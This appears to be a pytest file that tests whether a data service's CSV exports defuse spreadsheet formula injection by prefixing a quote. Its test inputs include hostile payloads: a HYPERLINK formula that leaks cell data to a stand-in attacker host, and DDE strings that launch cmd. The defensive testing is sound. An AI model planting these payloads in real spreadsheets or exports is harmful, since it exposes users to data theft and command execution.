"""CSV injection (security review, issue 10): warehouse values and user-written chat titles
reach spreadsheets through /api/download_csv and export_history?format=csv. Formula-like text is
neutralised with a leading quote; numbers (typed, or number strings such as "-5") stay numbers."""

from __future__ import annotations

import csv
import io
import sqlite3
import uuid
from decimal import Decimal
from pathlib import Path

import pytest

from services.common.csv_safe import neutralise_cell, restore_cell
from services.conversation.assets import result_to_csv_bytes
from tests.support.stack import Stack
from tests.test_conversation_api import ask, dataframes
from tests.test_knowledge_api import connect, webhook_sync

FORMULAS = ["=HYPERLINK(\"http://evil.example/?x=\"&A1,\"click\")", "+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", FORMULAS)
def test_formula_text_gets_a_leading_quote(text: str) -> None:
    assert neutralise_cell(text) == "'" + text
    assert restore_cell(neutralise_cell(text)) == text  # what a reader of the CSV (the eval) compares


@pytest.mark.parametrize("text", ["-5", "+5", "-5.25", "-.5", "-1e-3", "plain", "", "a=b", "5-3", "'quoted"])
def test_numbers_and_plain_text_stay(text: str) -> None:
    assert neutralise_cell(text) == text
    assert restore_cell(text) == text


def test_typed_numbers_are_never_touched_text_is() -> None:
    body = result_to_csv_bytes(["n", "f", "d", "s", "num_text"],
                               [(-5, -2.5, Decimal("-1.50"), "=1+2", "-7"), (3, 0.5, Decimal("2"), "@x", "+8")])
    rows = list(csv.reader(io.StringIO(body.decode())))
    assert rows[1] == ["-5", "-2.5", "-1.50", "'=1+2", "-7"]
    assert rows[2] == ["3", "0.5", "2", "'@x", "+8"]


def test_download_csv_and_history_export_neutralise_formulas(stack: Stack, tmp_path: Path) -> None:
    db = tmp_path / "notes.sqlite"
    con = sqlite3.connect(db)
    con.execute("CREATE TABLE notes (note_id INTEGER PRIMARY KEY, body TEXT, balance INTEGER)")
    con.executemany("INSERT INTO notes VALUES (?, ?, ?)", [(i + 1, f, -(i + 1)) for i, f in enumerate(FORMULAS[:4])])
    con.commit()
    con.close()
    cid = f"notes-{uuid.uuid4().hex[:6]}"
    # a title that is a formula to a spreadsheet (the analyst rightly asks about extra quoted words, so none here)
    title = "=list the body and balance of every note"
    with stack.client(stack.admin_token) as c:
        connect(c, "sqlite", cid, database_location=str(db))
        webhook_sync(stack, "sqlite", cid)
        chat_id, conv = ask(c, title, connection_id=cid)
        df = dataframes(conv[-1])[0]
        assert "notes" in df["sql_query"].lower(), df["sql_query"]
        got = c.get(df["csv_download_url"])
        assert got.status_code == 200
        rows = list(csv.DictReader(io.StringIO(got.text)))
        assert sorted(r["body"] for r in rows) == sorted("'" + f for f in FORMULAS[:4])
        assert sorted(int(r["balance"]) for r in rows) == [-4, -3, -2, -1]  # negative numbers stay numbers
        export = c.get("/api/export_history", params={"format": "csv"})
    assert export.status_code == 200
    mine = [r for r in csv.DictReader(io.StringIO(export.text)) if r["chat_id"] == chat_id]
    assert [r["title"] for r in mine] == ["'" + title]
